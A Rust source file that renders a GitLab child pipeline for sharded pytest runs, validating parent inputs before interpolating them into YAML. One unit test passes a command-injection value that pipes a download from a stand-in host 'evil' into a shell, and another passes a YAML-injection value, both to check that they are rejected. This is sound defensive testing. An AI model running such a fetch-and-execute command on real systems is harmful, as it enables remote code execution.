//! The GitLab child pipeline of auto mode (`plan --format gitlab-child`).
//!
//! GitLab's `parallel:` takes a number fixed when the pipeline is created, so a shard count
//! chosen from timings needs a second pipeline: the component's `parallel-pytest-plan` job runs
//! `plan --format gitlab-child` and `parallel-pytest-child` triggers the YAML it wrote.
//!
//! The child is rendered from the component file itself (`templates/parallel-pytest.yml`,
//! embedded at build time): its `spec:inputs` header is read, the body is interpolated the way
//! GitLab does it with the parent's input values (passed to the plan job as
//! `PARALLEL_PYTEST_INPUT_<NAME>` variables) plus `shards = N` and `target_seconds = 0`, and the
//! parent-only jobs are dropped. So the child's shard and report jobs are, by construction, the
//! jobs of fixed mode; nothing is written twice, and the YAML is built as data with
//! serde_yaml_ng, never by pasting strings.

use std::collections::BTreeMap;

use serde::Deserialize;
use serde_yaml_ng::{Mapping, Number, Value};

/// The component, as shipped beside this binary's version.
pub const COMPONENT_TEMPLATE: &str = include_str!("../../templates/parallel-pytest.yml");

/// Prefix of the variables through which the plan job hands the parent's inputs to the child.
const INPUT_VAR_PREFIX: &str = crate::env_vars::ours::INPUT_PREFIX;

/// Jobs that only make sense in the parent pipeline (auto mode's planner and trigger).
const PARENT_ONLY_JOBS: &[&str] = &["parallel-pytest-plan", "parallel-pytest-child"];

/// Jobs the child must contain; their absence means the template and this code disagree.
const CHILD_JOBS: &[&str] = &["parallel-pytest-shard", "parallel-pytest-report"];

/// GitLab's `parallel:` range.
const MAX_PARALLEL: u32 = 200;

#[derive(Debug, thiserror::Error, PartialEq)]
pub enum ChildError {
    #[error("the component template is malformed: {0}")]
    Template(String),
    #[error("`{var}` is `{value}`, which is not a {kind} (input `{input}`)")]
    BadInput {
        var: String,
        input: String,
        value: String,
        kind: &'static str,
    },
    #[error("`{var}` is `{value}`, which input `{input}` does not accept ({rule})")]
    Rejected {
        var: String,
        input: String,
        value: String,
        rule: String,
    },
    #[error("input `{0}` has no value and no default")]
    MissingInput(String),
    #[error(
        "GitLab runs 1 to {MAX_PARALLEL} parallel jobs, but the plan chose {0} shards: lower `--max-shards`"
    )]
    ShardCount(u32),
}

/// The input types GitLab's `spec:inputs` knows.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum InputType {
    #[default]
    String,
    Number,
    Boolean,
    Array,
}

impl InputType {
    fn name(self) -> &'static str {
        match self {
            InputType::String => "string",
            InputType::Number => "number",
            InputType::Boolean => "boolean",
            InputType::Array => "array",
        }
    }
}

/// One entry of `spec:inputs`.
#[derive(Debug, Clone, Deserialize)]
pub struct InputSpec {
    #[serde(rename = "type", default)]
    pub kind: InputType,
    pub default: Option<Value>,
    pub description: Option<String>,
    pub regex: Option<String>,
    pub options: Option<Vec<Value>>,
}

#[derive(Debug, Deserialize)]
struct Header {
    spec: Spec,
}

#[derive(Debug, Deserialize)]
struct Spec {
    #[serde(default)]
    inputs: BTreeMap<String, InputSpec>,
}

/// A component file split into its header inputs and its (uninterpolated) body.
#[derive(Debug, Clone)]
pub struct Component {
    pub inputs: BTreeMap<String, InputSpec>,
    pub body: Value,
}

/// Parse a component: a `spec:` header document, `---`, then the configuration.
pub fn parse_component(text: &str) -> Result<Component, ChildError> {
    let mut docs = Vec::new();
    for doc in serde_yaml_ng::Deserializer::from_str(text) {
        docs.push(Value::deserialize(doc).map_err(|e| ChildError::Template(e.to_string()))?);
    }
    let [header, body]: [Value; 2] = docs.try_into().map_err(|docs: Vec<Value>| {
        ChildError::Template(format!(
            "expected a `spec:` header and a body (2 YAML documents), found {}",
            docs.len()
        ))
    })?;
    let header: Header = serde_yaml_ng::from_value(header)
        .map_err(|e| ChildError::Template(format!("in the `spec:` header: {e}")))?;
    if !body.is_mapping() {
        return Err(ChildError::Template(
            "the body is not a mapping of jobs".into(),
        ));
    }
    Ok(Component {
        inputs: header.spec.inputs,
        body,
    })
}

/// The environment variable that carries input `name` (`working_directory` →
/// `PARALLEL_PYTEST_INPUT_WORKING_DIRECTORY`).
fn input_var(name: &str) -> String {
    let mut var = String::from(INPUT_VAR_PREFIX);
    for c in name.chars() {
        var.push(match c {
            '-' => '_',
            c => c.to_ascii_uppercase(),
        });
    }
    var
}

/// Typed input values: each input's value from `lookup(var)` (a CI variable's text), else its
/// default. Text is converted to the input's type as GitLab would have checked it.
pub fn resolve_inputs(
    inputs: &BTreeMap<String, InputSpec>,
    lookup: impl Fn(&str) -> Option<String>,
) -> Result<BTreeMap<String, Value>, ChildError> {
    let mut out = BTreeMap::new();
    for (name, spec) in inputs {
        let var = input_var(name);
        let value = match lookup(&var) {
            Some(text) => {
                let value = typed(&var, name, spec.kind, &text)?;
                // The plan job's variables are plain CI variables, not inputs GitLab checked:
                // apply the input's own rules again before the value reaches the child's YAML.
                check_rules(spec, &value, &text).map_err(|rule| ChildError::Rejected {
                    var: var.clone(),
                    input: name.clone(),
                    value: text.clone(),
                    rule,
                })?;
                value
            }
            None => spec
                .default
                .clone()
                .ok_or_else(|| ChildError::MissingInput(name.clone()))?,
        };
        out.insert(name.clone(), value);
    }
    Ok(out)
}

/// GitLab's `options:` and `regex:` rules of one input (`regex` applies to string inputs, in
/// RE2 syntax, which the `regex` family of crates follows). `Err` says which rule failed.
fn check_rules(spec: &InputSpec, value: &Value, text: &str) -> Result<(), String> {
    if let Some(options) = &spec.options {
        if !options.contains(value) {
            let allowed: Vec<String> = options
                .iter()
                .map(|o| {
                    serde_yaml_ng::to_string(o)
                        .unwrap_or_default()
                        .trim()
                        .to_owned()
                })
                .collect();
            return Err(format!("one of: {}", allowed.join(", ")));
        }
    }
    if let (Some(pattern), InputType::String) = (&spec.regex, spec.kind) {
        let regex = regex_automata::meta::Regex::new(pattern)
            .map_err(|e| format!("its `regex` `{pattern}` does not compile: {e}"))?;
        if !regex.is_match(text) {
            return Err(format!("it must match `{pattern}`"));
        }
    }
    Ok(())
}

fn typed(var: &str, input: &str, kind: InputType, text: &str) -> Result<Value, ChildError> {
    let bad = || ChildError::BadInput {
        var: var.to_owned(),
        input: input.to_owned(),
        value: text.to_owned(),
        kind: kind.name(),
    };
    let text_trim = text.trim();
    match kind {
        InputType::String => Ok(Value::String(text.to_owned())),
        InputType::Boolean => match text_trim {
            "true" => Ok(Value::Bool(true)),
            "false" => Ok(Value::Bool(false)),
            _ => Err(bad()),
        },
        InputType::Number => {
            if let Ok(n) = text_trim.parse::<i64>() {
                Ok(Value::Number(Number::from(n)))
            } else {
                match text_trim.parse::<f64>() {
                    Ok(f) if f.is_finite() => Ok(Value::Number(Number::from(f))),
                    _ => Err(bad()),
                }
            }
        }
        // A YAML/JSON list in the variable; the component declares no array input today.
        InputType::Array => match serde_yaml_ng::from_str::<Value>(text) {
            Ok(v @ Value::Sequence(_)) => Ok(v),
            _ => Err(bad()),
        },
    }
}

/// Replace every `$[[ inputs.NAME ]]` in `value`'s strings, as GitLab does: a string that is
/// exactly one block becomes the input's typed value (so `parallel: $[[ inputs.shards ]]` stays
/// a number); a block inside a longer string is replaced by the value's text.
pub fn interpolate(value: &Value, inputs: &BTreeMap<String, Value>) -> Result<Value, ChildError> {
    Ok(match value {
        Value::String(s) => interpolate_str(s, inputs)?,
        Value::Sequence(items) => Value::Sequence(
            items
                .iter()
                .map(|v| interpolate(v, inputs))
                .collect::<Result<_, _>>()?,
        ),
        Value::Mapping(map) => {
            let mut out = Mapping::with_capacity(map.len());
            for (k, v) in map {
                out.insert(k.clone(), interpolate(v, inputs)?);
            }
            Value::Mapping(out)
        }
        Value::Tagged(tagged) => {
            let mut tagged = tagged.clone();
            tagged.value = interpolate(&tagged.value, inputs)?;
            Value::Tagged(tagged)
        }
        other => other.clone(),
    })
}

const OPEN: &str = "$[[";
const CLOSE: &str = "]]";

fn interpolate_str(s: &str, inputs: &BTreeMap<String, Value>) -> Result<Value, ChildError> {
    // The whole string is one block: keep the input's type.
    let whole = s
        .strip_prefix(OPEN)
        .and_then(|r| r.strip_suffix(CLOSE))
        .filter(|inner| !inner.contains(OPEN) && !inner.contains(CLOSE));
    if let Some(inner) = whole {
        return lookup_block(inner, inputs).cloned();
    }
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(start) = rest.find(OPEN) {
        out.push_str(&rest[..start]);
        let after = &rest[start + OPEN.len()..];
        let end = after
            .find(CLOSE)
            .ok_or_else(|| ChildError::Template(format!("unclosed `$[[` in {:?}", truncate(s))))?;
        out.push_str(&scalar_text(lookup_block(&after[..end], inputs)?)?);
        rest = &after[end + CLOSE.len()..];
    }
    out.push_str(rest);
    Ok(Value::String(out))
}

fn lookup_block<'a>(
    inner: &str,
    inputs: &'a BTreeMap<String, Value>,
) -> Result<&'a Value, ChildError> {
    let inner = inner.trim();
    let name = inner.strip_prefix("inputs.").ok_or_else(|| {
        ChildError::Template(format!(
            "`$[[ {inner} ]]` is not an `inputs.` interpolation"
        ))
    })?;
    if name.contains('|') {
        return Err(ChildError::Template(format!(
            "`$[[ {inner} ]]`: interpolation functions are not supported here"
        )));
    }
    inputs
        .get(name)
        .ok_or_else(|| ChildError::Template(format!("`$[[ {inner} ]]` names no declared input")))
}

fn scalar_text(value: &Value) -> Result<String, ChildError> {
    match value {
        Value::String(s) => Ok(s.clone()),
        Value::Bool(b) => Ok(b.to_string()),
        Value::Number(n) => Ok(n.to_string()),
        Value::Null => Ok(String::new()),
        other => serde_json::to_string(other).map_err(|e| ChildError::Template(e.to_string())),
    }
}

fn truncate(s: &str) -> String {
    s.chars().take(60).collect()
}

/// The child pipeline for `shards` shards, from `component` and the parent's `inputs`
/// (`shards` and `target_seconds` are overridden). Pure: the caller reads the environment.
pub fn render_child(
    component: &Component,
    inputs: &BTreeMap<String, Value>,
    shards: u32,
) -> Result<String, ChildError> {
    if shards == 0 || shards > MAX_PARALLEL {
        return Err(ChildError::ShardCount(shards));
    }
    let mut inputs = inputs.clone();
    inputs.insert("shards".into(), Value::Number(Number::from(shards)));
    inputs.insert("target_seconds".into(), Value::Number(Number::from(0)));

    let body = interpolate(&component.body, &inputs)?;
    let Value::Mapping(jobs) = body else {
        return Err(ChildError::Template(
            "the body is not a mapping of jobs".into(),
        ));
    };
    for job in CHILD_JOBS {
        if !jobs.contains_key(*job) {
            return Err(ChildError::Template(format!("job `{job}` is missing")));
        }
    }
    let stage = inputs
        .get("stage")
        .and_then(Value::as_str)
        .ok_or_else(|| ChildError::Template("input `stage` is missing or not a string".into()))?;

    // A child pipeline starts with GitLab's default stages; the user's stage may not be one.
    let mut child = Mapping::new();
    child.insert(
        Value::String("stages".into()),
        Value::Sequence(vec![Value::String(stage.to_owned())]),
    );
    for (name, job) in jobs {
        if name.as_str().is_some_and(|n| PARENT_ONLY_JOBS.contains(&n)) {
            continue;
        }
        child.insert(name, job);
    }
    serde_yaml_ng::to_string(&Value::Mapping(child))
        .map_err(|e| ChildError::Template(e.to_string()))
}

/// `plan --format gitlab-child`: the child pipeline from the embedded component, with the
/// parent's inputs read through `lookup` (the process environment in the binary). Bad variable
/// values and out-of-range counts name the culprit.
pub fn render_from_lookup(
    shards: u32,
    lookup: impl Fn(&str) -> Option<String>,
) -> Result<String, ChildError> {
    let component = parse_component(COMPONENT_TEMPLATE)?;
    let inputs = resolve_inputs(&component.inputs, lookup)?;
    render_child(&component, &inputs, shards)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn defaults() -> (Component, BTreeMap<String, Value>) {
        let component = parse_component(COMPONENT_TEMPLATE).unwrap();
        let inputs = resolve_inputs(&component.inputs, |_| None).unwrap();
        (component, inputs)
    }

    fn child_value(yaml: &str) -> Value {
        serde_yaml_ng::from_str(yaml).unwrap()
    }

    #[test]
    fn input_variables_meet_the_inputs_own_rules() {
        let (component, _) = defaults();
        let with = |var: &'static str, value: &'static str| {
            resolve_inputs(&component.inputs, move |v| {
                (v == var).then(|| value.to_owned())
            })
        };
        let err = with("PARALLEL_PYTEST_INPUT_TOKEN_VARIABLE", "X; curl evil|sh").unwrap_err();
        assert!(
            matches!(&err, ChildError::Rejected { input, .. } if input == "token_variable"),
            "{err:?}"
        );
        assert!(err.to_string().contains("must match"), "{err}");
        assert!(with("PARALLEL_PYTEST_INPUT_WORKERS", "3\nscript: x").is_err());
        assert!(with("PARALLEL_PYTEST_INPUT_WORKERS", "auto").is_ok());
        assert!(with("PARALLEL_PYTEST_INPUT_TOKEN_VARIABLE", "MY_TOKEN").is_ok());
        assert!(with("PARALLEL_PYTEST_INPUT_LAUNCHER", "processes").is_ok());
        let err = with("PARALLEL_PYTEST_INPUT_LAUNCHER", "threads").unwrap_err();
        assert!(
            err.to_string().contains("one of: xdist, processes"),
            "{err}"
        );

        let mut inputs = component.inputs.clone();
        inputs.get_mut("stage").unwrap().options = Some(vec!["test".into(), "verify".into()]);
        let pick = |value: &'static str| {
            resolve_inputs(&inputs, move |v| {
                (v == "PARALLEL_PYTEST_INPUT_STAGE").then(|| value.to_owned())
            })
        };
        assert!(pick("verify").is_ok());
        let err = pick("deploy").unwrap_err().to_string();
        assert!(err.contains("one of: test, verify"), "{err}");
    }

    #[test]
    fn every_input_is_documented_and_has_a_default() {
        let (component, _) = defaults();
        for (name, spec) in &component.inputs {
            let description = spec.description.as_deref().unwrap_or_default();
            assert!(description.len() > 10, "input `{name}` needs a description");
            assert!(
                description.len() <= 1024,
                "input `{name}`: description too long"
            );
            assert!(spec.default.is_some(), "input `{name}` needs a default");
        }
    }

    #[test]
    fn child_has_the_chosen_parallel_count_and_no_parent_jobs() {
        let (component, inputs) = defaults();
        let yaml = render_child(&component, &inputs, 7).unwrap();
        let child = child_value(&yaml);
        assert_eq!(child["parallel-pytest-shard"]["parallel"], Value::from(7));
        assert_eq!(child["stages"], child_value("[test]"));
        for job in PARENT_ONLY_JOBS {
            assert!(child.get(job).is_none(), "{job} must not be in the child");
        }
        assert!(!yaml.contains("$[["), "uninterpolated block left:\n{yaml}");
        // The report job expects exactly the chosen count.
        let script = child["parallel-pytest-report"]["script"][0]
            .as_str()
            .unwrap();
        assert!(script.contains("--expect-shards \"7\""), "{script}");
        // Fixed-mode rules hold in the child: target_seconds is 0 there.
        assert_eq!(
            child["parallel-pytest-shard"]["rules"][0]["if"],
            Value::from(r#""0" == "0""#)
        );
    }

    /// What GitLab receives for 3 shards with the default inputs.
    #[test]
    fn default_child_snapshot() {
        let (component, inputs) = defaults();
        insta::assert_snapshot!(render_child(&component, &inputs, 3).unwrap());
    }

    #[test]
    fn parent_inputs_reach_the_child_verbatim() {
        let component = parse_component(COMPONENT_TEMPLATE).unwrap();
        let env: BTreeMap<String, String> = [
            ("PARALLEL_PYTEST_INPUT_STAGE", "unit tests"),
            ("PARALLEL_PYTEST_INPUT_IMAGE", "registry.example/py:3.13"),
            (
                "PARALLEL_PYTEST_INPUT_INSTALL",
                r#"pip install -r "$REQS" && echo 'a: b' # not: yaml"#,
            ),
            ("PARALLEL_PYTEST_INPUT_PYTEST_ARGS", "-m \"not slow\""),
            ("PARALLEL_PYTEST_INPUT_TIMINGS_CACHE", "false"),
            ("PARALLEL_PYTEST_INPUT_SHARDS", "3"),
        ]
        .into_iter()
        .map(|(k, v)| (k.to_owned(), v.to_owned()))
        .collect();
        let inputs = resolve_inputs(&component.inputs, |var| env.get(var).cloned()).unwrap();
        let child = child_value(&render_child(&component, &inputs, 4).unwrap());
        assert_eq!(child["stages"], child_value("['unit tests']"));
        let base = &child[".parallel-pytest-base"];
        assert_eq!(base["image"], Value::from("registry.example/py:3.13"));
        assert_eq!(base["stage"], Value::from("unit tests"));
        let shard = &child["parallel-pytest-shard"];
        assert_eq!(
            shard["script"][0],
            Value::from(r#"pip install -r "$REQS" && echo 'a: b' # not: yaml"#)
        );
        let run = shard["script"][1].as_str().unwrap();
        assert!(run.contains(r#"-- -m "not slow""#), "{run}");
        assert!(run.contains(r#"[ "false" = true ]"#), "{run}");
        // Overridden, whatever the parent said.
        assert_eq!(shard["parallel"], Value::from(4));
    }

    #[test]
    fn bad_input_text_names_the_variable() {
        let component = parse_component(COMPONENT_TEMPLATE).unwrap();
        let err = resolve_inputs(&component.inputs, |var| {
            (var == "PARALLEL_PYTEST_INPUT_MR_NOTE").then(|| "yes".to_owned())
        })
        .unwrap_err();
        assert_eq!(
            err.to_string(),
            "`PARALLEL_PYTEST_INPUT_MR_NOTE` is `yes`, which is not a boolean (input `mr_note`)"
        );
        let err = resolve_inputs(&component.inputs, |var| {
            (var == "PARALLEL_PYTEST_INPUT_MAX_SHARDS").then(|| "NaN".to_owned())
        })
        .unwrap_err();
        assert!(matches!(err, ChildError::BadInput { kind: "number", .. }));
    }

    #[test]
    fn shard_count_outside_gitlab_range_is_refused() {
        let (component, inputs) = defaults();
        assert_eq!(
            render_child(&component, &inputs, 201).unwrap_err(),
            ChildError::ShardCount(201)
        );
        assert_eq!(
            render_child(&component, &inputs, 0).unwrap_err(),
            ChildError::ShardCount(0)
        );
        assert!(render_child(&component, &inputs, 200).is_ok());
        assert!(render_child(&component, &inputs, 1).is_ok());
    }

    #[test]
    fn interpolation_keeps_types_for_whole_values_only() {
        let inputs: BTreeMap<String, Value> = [
            ("n".to_owned(), Value::from(3)),
            ("b".to_owned(), Value::Bool(true)),
            ("s".to_owned(), Value::from("x y")),
        ]
        .into_iter()
        .collect();
        let v = child_value(
            "a: $[[ inputs.n ]]\nb: '$[[inputs.b]]'\nc: n=$[[ inputs.n ]] s=$[[ inputs.s ]]!\n",
        );
        let out = interpolate(&v, &inputs).unwrap();
        assert_eq!(out["a"], Value::from(3));
        assert_eq!(out["b"], Value::Bool(true));
        assert_eq!(out["c"], Value::from("n=3 s=x y!"));
    }

    #[test]
    fn malformed_blocks_are_errors_not_panics() {
        let inputs = BTreeMap::new();
        for text in [
            "a: $[[ inputs.nope ]]",
            "a: x $[[ inputs.nope",
            "a: $[[ env.X ]]",
            "a: $[[ inputs.x | expand_vars ]]",
        ] {
            let v = child_value(text);
            assert!(
                matches!(interpolate(&v, &inputs), Err(ChildError::Template(_))),
                "{text}"
            );
        }
        assert!(parse_component("a: 1").is_err());
        assert!(parse_component("spec: {inputs: {}}\n---\n- 1\n").is_err());
    }

    /// The component pins the binary it was released with (a release bumps both together).
    #[test]
    fn component_pins_this_version() {
        let (_, inputs) = defaults();
        assert_eq!(inputs["version"], Value::from(env!("CARGO_PKG_VERSION")));
    }

    #[test]
    fn input_var_names() {
        assert_eq!(
            input_var("working_directory"),
            "PARALLEL_PYTEST_INPUT_WORKING_DIRECTORY"
        );
        assert_eq!(input_var("a-b"), "PARALLEL_PYTEST_INPUT_A_B");
    }

    /// The plan job hands every input to the child: one variable per declared input.
    #[test]
    fn plan_job_forwards_every_input() {
        let component = parse_component(COMPONENT_TEMPLATE).unwrap();
        let vars = component.body["parallel-pytest-plan"]["variables"]
            .as_mapping()
            .unwrap();
        for name in component.inputs.keys() {
            assert!(
                vars.contains_key(input_var(name).as_str()),
                "`parallel-pytest-plan` does not forward input `{name}` as `{}`",
                input_var(name)
            );
        }
    }
}
